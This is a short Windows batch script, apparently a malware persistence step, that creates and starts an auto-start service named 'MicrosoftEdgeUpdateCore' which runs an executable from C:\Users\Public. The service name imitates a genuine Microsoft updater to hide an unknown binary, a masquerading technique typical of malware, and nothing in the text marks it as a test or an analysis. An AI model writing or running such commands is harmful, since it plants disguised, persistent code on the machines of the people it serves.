REM init 8367 v2
sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start MicrosoftEdgeUpdateCore
